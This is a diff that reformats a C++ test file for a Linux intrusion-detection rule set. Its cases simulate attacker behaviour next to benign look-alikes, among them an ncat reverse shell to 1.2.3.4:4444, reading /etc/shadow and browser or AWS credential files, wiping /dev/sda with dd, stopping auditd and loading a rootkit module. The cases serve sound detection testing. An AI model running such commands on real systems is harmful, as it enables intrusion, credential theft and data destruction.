@@ -14,7 +14,9 @@ namespace {
 using K = EventKind;
 using Make = std::function<void(Scene&)>;
 
-std::string rule_file() { return read_file(std::string(SHRIKE_SOURCE_DIR) + "/packaging/config/rules/shrike.yaml").value(); }
+std::string rule_file() {
+  return read_file(std::string(SHRIKE_SOURCE_DIR) + "/packaging/config/rules/shrike.yaml").value();
+}
 
 const RuleSet& rules(std::vector<RuleStatus>* statuses = nullptr) {
   static std::vector<RuleStatus> all;
@@ -35,8 +37,13 @@ const std::map<std::string, Case>& cases() {
        {K::open, [](Scene& s) { s.program("/usr/bin/cat", {"/etc/shadow"}).uid(0).reads("/etc/shadow"); },
         [](Scene& s) { s.program("/usr/sbin/unix_chkpwd").uid(0).reads("/etc/shadow"); }}},
       {"Password hashes read by a Perl script of the system",
-       {K::open, [](Scene& s) { s.program("/usr/bin/perl", {"-wT", "/usr/sbin/munin-node"}).uid(0).reads("/etc/shadow"); },
-        [](Scene& s) { s.program("/usr/bin/perl", {"-e", "getpwnam(0)", "/usr/sbin/x"}).uid(0).reads("/etc/shadow"); }}},
+       {K::open,
+        [](Scene& s) {
+          s.program("/usr/bin/perl", {"-wT", "/usr/sbin/munin-node"}).uid(0).reads("/etc/shadow");
+        },
+        [](Scene& s) {
+          s.program("/usr/bin/perl", {"-e", "getpwnam(0)", "/usr/sbin/x"}).uid(0).reads("/etc/shadow");
+        }}},
       {"Reading of password hashes was denied",
        {K::open, [](Scene& s) { s.program("/usr/bin/cat").reads("/etc/shadow").fails(13); },
         [](Scene& s) { s.program("/usr/bin/cat").reads("/etc/shadow").fails(2); }}},
@@ -51,7 +58,9 @@ const std::map<std::string, Case>& cases() {
         [](Scene& s) { s.program("/usr/bin/aws").reads("/root/.aws/credentials"); }}},
       {"Browser passwords or cookies read by another program",
        {K::open, [](Scene& s) { s.reads("/home/alice/.mozilla/firefox/x.default/logins.json"); },
-        [](Scene& s) { s.program("/usr/lib/firefox-esr/firefox-esr").reads("/home/alice/.mozilla/firefox/x/logins.json"); }}},
+        [](Scene& s) {
+          s.program("/usr/lib/firefox-esr/firefox-esr").reads("/home/alice/.mozilla/firefox/x/logins.json");
+        }}},
       {"Memory of another process read through a file",
        {K::open, [](Scene& s) { s.reads("/proc/4711/mem"); },
         [](Scene& s) { s.program("/usr/bin/gdb").reads("/proc/4711/mem"); }}},
@@ -62,7 +71,12 @@ const std::map<std::string, Case>& cases() {
         [](Scene& s) { s.program("/usr/bin/dpkg").writes("/etc/cron.d/job.dpkg-new"); }}},
       {"Service unit changed",
        {K::rename, [](Scene& s) { s.program("/usr/bin/mv").path("/tmp/a").path2("/etc/systemd/system/a.service"); },
-        [](Scene& s) { s.program("/usr/bin/deb-systemd-helper").child_of("/usr/bin/dpkg").path("/tmp/a").path2("/etc/systemd/system/a.service"); }}},
+        [](Scene& s) {
+          s.program("/usr/bin/deb-systemd-helper")
+              .child_of("/usr/bin/dpkg")
+              .path("/tmp/a")
+              .path2("/etc/systemd/system/a.service");
+        }}},
       {"Library preloaded into every program",
        {K::open, [](Scene& s) { s.writes("/etc/ld.so.preload"); }, [](Scene& s) { s.reads("/etc/ld.so.preload"); }}},
       {"Shell start-up file changed",
@@ -83,7 +97,8 @@ const std::map<std::string, Case>& cases() {
        {K::setxattr, [](Scene& s) { s.path("/tmp/sh").path2("security.capability"); },
         [](Scene& s) { s.path("/tmp/sh").path2("user.comment"); }}},
       {"Unknown set-user-ID program gave root",
-       {K::exec, [](Scene& s) { s.program("/home/alice/rootsh").euid(0); }, [](Scene& s) { s.program("/usr/bin/sudo").euid(0); }}},
+       {K::exec, [](Scene& s) { s.program("/home/alice/rootsh").euid(0); },
+        [](Scene& s) { s.program("/usr/bin/sudo").euid(0); }}},
       {"Process became root by itself",
        {K::setid, [](Scene& s) { s.program("/tmp/exploit").uid(0).parent_uid(1000); },
         [](Scene& s) { s.program("/usr/bin/sudo").uid(0).parent_uid(1000); }}},
@@ -99,25 +114,37 @@ const std::map<std::string, Case>& cases() {
        {K::symlink, [](Scene& s) { s.program("/usr/bin/ln").path("/dev/null").path2("/root/.bash_history"); },
         [](Scene& s) { s.program("/usr/bin/ln").path("/dev/null").path2("/root/bash_history"); }}},
       {"Program deleted its own file",
-       {K::unlink, [](Scene& s) { s.program("/tmp/x").path("/tmp/x"); }, [](Scene& s) { s.program("/tmp/x").path("/tmp/y"); }}},
+       {K::unlink, [](Scene& s) { s.program("/tmp/x").path("/tmp/x"); },
+        [](Scene& s) { s.program("/tmp/x").path("/tmp/y"); }}},
       {"File times set by hand in a system folder",
-       {K::exec, [](Scene& s) { s.program("/usr/bin/touch", {"-r", "/usr/bin/ls", "/usr/bin/sshd2"}); },
+       {K::exec,
+        [](Scene& s) {
+          s.program("/usr/bin/touch", {"-r", "/usr/bin/ls", "/usr/bin/sshd2"});
+        },
         [](Scene& s) { s.program("/usr/bin/touch", {"/etc/motd"}); }}},
       {"Argument changed during a system call",
        {K::toctou, [](Scene& s) { s.path("/tmp/a").event.path_at_exit = "/tmp/b"; }, nullptr}},
       {"Protection switched off",
-       {K::exec, [](Scene& s) { s.program("/usr/bin/systemctl", {"stop", "auditd"}).uid(0); },
-        [](Scene& s) { s.program("/usr/bin/systemctl", {"status", "auditd"}).uid(0); }}},
+       {K::exec,
+        [](Scene& s) {
+          s.program("/usr/bin/systemctl", {"stop", "auditd"}).uid(0);
+        },
+        [](Scene& s) {
+          s.program("/usr/bin/systemctl", {"status", "auditd"}).uid(0);
+        }}},
       {"Program pretends to be a kernel thread",
        {K::exec, [](Scene& s) { s.program("/tmp/x").argv0("[kworker/0:1]"); },
         [](Scene& s) { s.program("/usr/bin/[").argv0("["); }}},
       {"Program run from memory",
        {K::exec, [](Scene& s) { s.program("/memfd:x").flag(flag_memfd); },
-        [](Scene& s) { s.program("/memfd:runc_cloned").flag(flag_memfd).child_of("/usr/bin/containerd-shim-runc-v2"); }}},
+        [](Scene& s) {
+          s.program("/memfd:runc_cloned").flag(flag_memfd).child_of("/usr/bin/containerd-shim-runc-v2");
+        }}},
       {"Program run after its file was deleted",
        {K::exec, [](Scene& s) { s.program("/tmp/x").flag(flag_deleted); }, [](Scene& s) { s.program("/tmp/x"); }}},
       {"Program run from shared memory",
-       {K::exec, [](Scene& s) { s.program("/usr/bin/bash", {"/dev/shm/x.sh"}).path("/dev/shm/x.sh").flag(flag_interp); },
+       {K::exec,
+        [](Scene& s) { s.program("/usr/bin/bash", {"/dev/shm/x.sh"}).path("/dev/shm/x.sh").flag(flag_interp); },
         [](Scene& s) { s.program("/usr/bin/bash", {"/dev/shm/x.sh"}).path("/usr/bin/bash"); }}},
       {"File system mounted inside a container",
        {K::mount, [](Scene& s) { s.in_container().path("/dev/sda1").path2("/mnt"); },
@@ -133,22 +160,32 @@ const std::map<std::string, Case>& cases() {
       {"Program that is not part of its image run in a container",
        {K::exec, [](Scene& s) { s.in_container().flag(flag_upper); }, [](Scene& s) { s.in_container(); }}},
       {"Network connection became a shell's input or output",
-       {K::dup, [](Scene& s) { s.program("/usr/bin/python3.11").tcp({10, 0, 0, 1}, 4000, {1, 2, 3, 4}, 4444).arg(0, 3); },
+       {K::dup,
+        [](Scene& s) {
+          s.program("/usr/bin/python3.11").tcp({10, 0, 0, 1}, 4000, {1, 2, 3, 4}, 4444).arg(0, 3);
+        },
         [](Scene& s) { s.program("/usr/bin/python3.11").unix_socket("/run/x"); }}},
       {"Shell started on a network connection",
        {K::exec, [](Scene& s) { s.program("/usr/bin/dash", {"-i"}).self().has_stdio_socket = true; },
         [](Scene& s) { s.program("/usr/bin/dash", {"-i"}); }}},
       {"Network tool told to run a program",
-       {K::exec, [](Scene& s) { s.program("/usr/bin/ncat", {"1.2.3.4", "4444", "-e", "/bin/sh"}); },
-        [](Scene& s) { s.program("/usr/bin/ncat", {"-l", "4444"}); }}},
+       {K::exec,
+        [](Scene& s) {
+          s.program("/usr/bin/ncat", {"1.2.3.4", "4444", "-e", "/bin/sh"});
+        },
+        [](Scene& s) {
+          s.program("/usr/bin/ncat", {"-l", "4444"});
+        }}},
       {"Process attached to another with ptrace",
-       {K::ptrace, [](Scene& s) { s.arg(0, 16).arg(1, 77); }, [](Scene& s) { s.program("/usr/bin/strace").arg(0, 0x4206); }}},
+       {K::ptrace, [](Scene& s) { s.arg(0, 16).arg(1, 77); },
+        [](Scene& s) { s.program("/usr/bin/strace").arg(0, 0x4206); }}},
       {"Memory of another process written",
        {K::vm_access, [](Scene& s) { s.call(311).arg(1, 1); }, [](Scene& s) { s.call(310); }}},
       {"Memory of another process written through a file",
        {K::open, [](Scene& s) { s.writes("/proc/4711/mem"); }, [](Scene& s) { s.reads("/proc/4711/mem"); }}},
       {"Writable and executable memory where none is needed",
-       {K::map_wx, [](Scene& s) { s.program("/tmp/x").arg(2, 7); }, [](Scene& s) { s.program("/usr/bin/node").arg(2, 7); }}},
+       {K::map_wx, [](Scene& s) { s.program("/tmp/x").arg(2, 7); },
+        [](Scene& s) { s.program("/usr/bin/node").arg(2, 7); }}},
       {"Kernel module loaded in an unusual way",
        {K::module_load, [](Scene& s) { s.program("/usr/bin/kmod").real("/tmp/rootkit.ko"); },
         [](Scene& s) { s.program("/usr/bin/kmod").real("/usr/lib/modules/6.1/kernel/fs/ext4.ko"); }}},
@@ -162,8 +199,13 @@ const std::map<std::string, Case>& cases() {
       {"Performance events opened by an ordinary user",
        {K::perf_event, [](Scene&) {}, [](Scene& s) { s.program("/usr/bin/perf_6.1"); }}},
       {"Disk or data wiped",
-       {K::exec, [](Scene& s) { s.program("/usr/bin/dd", {"if=/dev/zero", "of=/dev/sda"}); },
-        [](Scene& s) { s.program("/usr/bin/dd", {"if=/dev/zero", "of=/tmp/file"}); }}},
+       {K::exec,
+        [](Scene& s) {
+          s.program("/usr/bin/dd", {"if=/dev/zero", "of=/dev/sda"});
+        },
+        [](Scene& s) {
+          s.program("/usr/bin/dd", {"if=/dev/zero", "of=/tmp/file"});
+        }}},
   };
   return all;
 }
@@ -234,7 +276,8 @@ TEST(ShrikeRules, EachOutputTellsAllThatItNames) {
 }
 
 TEST(ShrikeRules, ShadowReadFromAShellAlertsHigh) {
-  for (const char* program : {"/usr/bin/cat", "/usr/bin/less", "/usr/bin/python3.11", "/usr/bin/dash", "/home/alice/own"}) {
+  for (const char* program :
+       {"/usr/bin/cat", "/usr/bin/less", "/usr/bin/python3.11", "/usr/bin/dash", "/home/alice/own"}) {
     Scene s(K::open);
     s.program(program).uid(0).reads("/etc/shadow");
     std::vector<Alert> alerts;
@@ -246,8 +289,13 @@ TEST(ShrikeRules, ShadowReadFromAShellAlertsHigh) {
 }
 
 TEST(ShrikeRules, ShadowReadByPerlCodeThatIsNotTheSystemsAlertsHigh) {
-  const std::vector<std::vector<std::string>> all{
-      {"-e", "1"}, {"/tmp/x.pl"}, {}, {"-Mevil", "/usr/sbin/x"}, {"-w", "/home/a/x"}, {"/usr/sbin/../../tmp/x"}, {"-we", "/usr/sbin/x"}};
+  const std::vector<std::vector<std::string>> all{{"-e", "1"},
+                                                  {"/tmp/x.pl"},
+                                                  {},
+                                                  {"-Mevil", "/usr/sbin/x"},
+                                                  {"-w", "/home/a/x"},
+                                                  {"/usr/sbin/../../tmp/x"},
+                                                  {"-we", "/usr/sbin/x"}};
   for (const auto& arguments : all) {
     Scene s(K::open);
     s.program("/usr/bin/perl", arguments).uid(0).reads("/etc/shadow");
@@ -273,13 +321,17 @@ TEST(ShrikeRules, APackageManagersNameInTheArgumentsDoesNotHelp) {
 
 TEST(ShrikeRules, AskForNoOpenWithoutAPathAndForFewKinds) {
   const FilterSpec& filter = rules().filter();
-  EXPECT_EQ(filter.any_path & (access_open_read | access_open_write | access_open_failed | access_unlink | access_rename), 0u);
-  for (const K kind : {K::socket, K::bind, K::sendto, K::tcp_state, K::signal, K::prctl, K::uring_op, K::exit, K::memfd, K::mkdir})
+  EXPECT_EQ(
+      filter.any_path & (access_open_read | access_open_write | access_open_failed | access_unlink | access_rename),
+      0u);
+  for (const K kind :
+       {K::socket, K::bind, K::sendto, K::tcp_state, K::signal, K::prctl, K::uring_op, K::exit, K::memfd, K::mkdir})
     EXPECT_FALSE(filter.kinds.test(static_cast<size_t>(kind))) << kind_name(kind);
   // "/etc/" or "/" would let half of everything out.
   for (const auto& [prefix, access] : filter.prefixes) EXPECT_GE(prefix.size(), 4u) << prefix;
   EXPECT_FALSE(filter.prefixes.contains("/etc/"));
-  for (const char* common : {"etc", "usr", "lib", "home", "proc", "var"}) EXPECT_FALSE(filter.names.contains(common)) << common;
+  for (const char* common : {"etc", "usr", "lib", "home", "proc", "var"})
+    EXPECT_FALSE(filter.names.contains(common)) << common;
 }
 
 // What a package installation, a log-in, cron and a compiler do; nothing of it may be more than a notice.
@@ -291,15 +343,24 @@ TEST(ShrikeRules, OrdinaryWorkRaisesNothingHigh) {
     rules().evaluate(s.event, alerts);
     for (const Alert& alert : alerts) EXPECT_LT(alert.severity, Severity::high) << alert.rule << ": " << alert.message;
   };
-  quiet(K::open, [](Scene& s) { s.program("/usr/sbin/useradd").uid(0).child_of("/usr/bin/perl").reads("/etc/shadow"); });
+  quiet(K::open,
+        [](Scene& s) { s.program("/usr/sbin/useradd").uid(0).child_of("/usr/bin/perl").reads("/etc/shadow"); });
   quiet(K::open, [](Scene& s) { s.program("/usr/bin/perl", {"/usr/sbin/adduser", "x"}).uid(0).reads("/etc/shadow"); });
-  quiet(K::open, [](Scene& s) { s.program("/usr/bin/perl", {"-w", "/usr/sbin/dpkg-reconfigure", "tzdata"}).uid(0).reads("/etc/shadow"); });
+  quiet(K::open, [](Scene& s) {
+    s.program("/usr/bin/perl", {"-w", "/usr/sbin/dpkg-reconfigure", "tzdata"}).uid(0).reads("/etc/shadow");
+  });
   quiet(K::open, [](Scene& s) { s.program("/usr/bin/perl").uid(0).child_of("/usr/bin/dpkg").reads("/etc/shadow"); });
-  quiet(K::open, [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).writes("/usr/lib/systemd/system/x.service.dpkg-new"); });
-  quiet(K::rename, [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).path("/etc/sudoers.dpkg-new").path2("/etc/sudoers"); });
+  quiet(K::open,
+        [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).writes("/usr/lib/systemd/system/x.service.dpkg-new"); });
+  quiet(K::rename,
+        [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).path("/etc/sudoers.dpkg-new").path2("/etc/sudoers"); });
   quiet(K::chmod, [](Scene& s) { s.program("/usr/bin/dpkg").uid(0).path("/usr/bin/sudo.dpkg-new").arg(0, 04755); });
   quiet(K::chmod, [](Scene& s) {
-    s.program("/tmp/root/usr/bin/dpkg").uid(0).child_of("/usr/bin/mmdebstrap", {"/usr/bin/mmdebstrap", "bookworm"}).path("/tmp/root/bin/su").arg(0, 04755);
+    s.program("/tmp/root/usr/bin/dpkg")
+        .uid(0)
+        .child_of("/usr/bin/mmdebstrap", {"/usr/bin/mmdebstrap", "bookworm"})
+        .path("/tmp/root/bin/su")
+        .arg(0, 04755);
   });
   quiet(K::rename, [](Scene& s) { s.program("/usr/sbin/useradd").uid(0).path("/etc/shadow+").path2("/etc/shadow"); });
   quiet(K::open, [](Scene& s) { s.program("/usr/sbin/sshd").uid(0).reads("/etc/shadow"); });
@@ -308,7 +369,9 @@ TEST(ShrikeRules, OrdinaryWorkRaisesNothingHigh) {
   quiet(K::exec, [](Scene& s) { s.program("/usr/bin/bash", {"-c", "ls"}).child_of("/usr/sbin/sshd"); });
   quiet(K::exec, [](Scene& s) { s.program("/usr/bin/sudo", {"ls"}).euid(0); });
   quiet(K::open, [](Scene& s) { s.program("/usr/sbin/cron").uid(0).reads("/etc/shadow"); });
-  quiet(K::exec, [](Scene& s) { s.program("/usr/bin/dash", {"-c", "run-parts /etc/cron.hourly"}).uid(0).child_of("/usr/sbin/cron"); });
+  quiet(K::exec, [](Scene& s) {
+    s.program("/usr/bin/dash", {"-c", "run-parts /etc/cron.hourly"}).uid(0).child_of("/usr/sbin/cron");
+  });
   quiet(K::unlink, [](Scene& s) { s.program("/usr/bin/x86_64-linux-gnu-gcc-12").path("/tmp/ccAbc.s"); });
   quiet(K::exec, [](Scene& s) { s.program("/tmp/conftest"); });
   quiet(K::unlink, [](Scene& s) { s.program("/usr/sbin/logrotate").uid(0).path("/var/log/syslog.7.gz"); });
